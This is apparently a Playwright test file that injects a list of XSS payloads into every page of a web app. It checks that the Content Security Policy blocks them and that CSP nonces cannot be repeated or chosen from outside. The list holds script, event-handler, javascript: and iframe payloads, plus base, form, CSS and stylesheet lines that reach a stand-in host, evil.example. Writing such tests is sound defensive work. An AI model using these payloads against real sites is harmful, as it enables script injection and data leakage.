// Bar test 17: what an attacker gets into the HTML of a page does not run, and no nonce comes twice.
import assert from 'node:assert/strict'
import { before, describe, test } from 'node:test'
import type { Browser } from 'playwright'
import { z } from 'zod'
import { SURFACES } from '#lib/modules/canaries/domain/surfaces.ts'
import type { Installation } from '#testing/processes.ts'
import { countNonces } from './support/nonces.ts'
import { idOf } from './support/id-of.ts'
import type { Inhabited } from './support/inhabited.ts'
import type { Person } from './support/person.ts'

let installation: Installation
let browser: Browser
let admin: Person
let ids: Readonly<Record<string, string>>

const firstId = async (what: string): Promise<string> => await idOf(admin, what, { scope: 'operator' })

async function settle(at: Inhabited): Promise<void> {
  ;({ installation, browser, admin } = at)
  const platform = await firstId('platforms')
  await admin.must(z.unknown(), 'POST', '/api/v1/incidents', {
    scope: `platform:${platform}`,
    body: { title: 'something to look at' },
  })
  ids = {
    incidentId: await firstId('incidents'),
    serviceId: await firstId('services'),
    platformId: platform,
  }
}

/** Ways for markup to become code: each says so in a variable if it runs. */
const ATTACKS = [
  '<script>window.executed = (window.executed || 0) + 1</script>',
  '<script src="data:text/javascript,window.executed=1"></script>',
  '<script nonce="">window.executed = 1</script>',
  '<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">window.executed = 1</script>',
  '<img src="/nothing-here" onerror="window.executed = 1">',
  '<svg onload="window.executed = 1"></svg>',
  '<body onload="window.executed = 1">',
  '<input autofocus onfocus="window.executed = 1">',
  '<iframe srcdoc="<script>parent.executed = 1</script>"></iframe>',
  '<iframe src="javascript:parent.executed = 1"></iframe>',
  '<object data="data:text/html,<script>parent.executed = 1</script>"></object>',
  '<base href="https://evil.example/">',
  '<a id="attack" href="javascript:window.executed = 1">x</a>',
  '<form id="out" action="https://evil.example/"><button>x</button></form>',
  '<style>body { background: url(https://evil.example/leak) }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
].join('')

const addressOf = (path: string): string =>
  `${path.replaceAll(/\{(\w+)\}/g, (_, name: string) => ids[name] ?? '')}?scope=operator`

let blocked = 0
/** Addresses that lead elsewhere, to a page that is attacked on its own. */
const ledOn: string[] = []

async function attack(path: string): Promise<void> {
  const context = await browser.newContext()
  if (!['/sign-in', '/setup', '/invitation'].includes(path))
    await context.addCookies(admin.cookies().map((cookie) => ({ ...cookie, url: installation.url })))
  const page = await context.newPage()
  const outside: string[] = []
  let violations = 0
  // A request that the policy refuses is announced, too, and fails as `csp` before anything leaves.
  page.on('requestfailed', (request) => {
    const reason = request.failure()?.errorText
    if (request.url().includes('evil.example') && reason !== 'csp')
      outside.push(`${request.url()}: ${reason}`)
  })
  page.on('requestfinished', (request) => {
    if (request.url().includes('evil.example')) outside.push(request.url())
  })
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) violations += 1
  })
  await page.route('**/*', async (route) => {
    if (route.request().resourceType() !== 'document' || route.request().frame() !== page.mainFrame()) {
      await route.continue()
      return
    }
    const response = await route.fetch({ maxRedirects: 0 })
    if (response.status() >= 300 && response.status() < 400) ledOn.push(path)
    const body = (await response.text()).replace(/<body[^>]*>/, (tag) => tag + ATTACKS)
    await route.fulfill({ response, body })
  })
  const answer = await page.goto(installation.url + addressOf(path), { waitUntil: 'load' })
  const policy = (await answer?.headerValue('content-security-policy')) ?? ''
  assert.ok(!policy.includes('unsafe-inline') && !policy.includes('unsafe-eval'), path)
  await page.evaluate(() => document.querySelector<HTMLElement>('#attack')?.click())
  await page.waitForTimeout(300)
  assert.equal(await page.evaluate('window.executed ?? 0'), 0, `${path}: something ran`)
  assert.deepEqual(outside, [], `${path}: something was asked for outside`)
  if (!ledOn.includes(path)) assert.ok(violations >= 5, `${path}: only ${violations} attempts were noticed`)
  blocked += violations
  await context.close()
}

/** Which pages are attacked, and how many loads have their nonces counted. */
export interface PolicyTrial {
  /** Paths as the manifest of surfaces names them; every page when left out. */
  readonly paths?: readonly string[]
  readonly loads: number
}

async function checkNonces(loads: number): Promise<void> {
  assert.equal(await countNonces(installation.url, loads), loads)
  const chosen = await fetch(`${installation.url}/sign-in`, {
    headers: {
      'content-security-policy': "script-src 'nonce-evil'",
      'x-nonce': 'evil',
      'content-security-policy-report-only': "script-src 'nonce-evil'",
    },
  })
  assert.ok(!(chosen.headers.get('content-security-policy') ?? '').includes('evil'))
  assert.ok(!(await chosen.text()).includes('nonce="evil"'))
}

/** Declares the tests: what is injected into a page does not run, and no nonce comes twice. */
export function runPolicyTrial(place: () => Inhabited, { paths, loads }: PolicyTrial): void {
  const pages = SURFACES.filter(({ kind, path }) => kind === 'page' && (paths?.includes(path) ?? true))

  describe('injected markup', () => {
    before(async () => await settle(place()))

    test('the pages are there', () => assert.equal(pages.length, paths?.length ?? pages.length))

    for (const { path } of pages)
      test(`${path}: nothing that was injected runs`, async () => await attack(path))

    test('most pages show themselves', () => assert.ok(ledOn.length < pages.length / 4, ledOn.join()))

    test(`no nonce of ${loads} loads comes twice, and none can be chosen from outside`, async (t) => {
      await checkNonces(loads)
      t.diagnostic(
        `${pages.length} pages, ${ledOn.length} of them led on, ${blocked} attempts refused, 0 executions; ${loads} nonces of ${loads} loads`,
      )
    })
  })
}
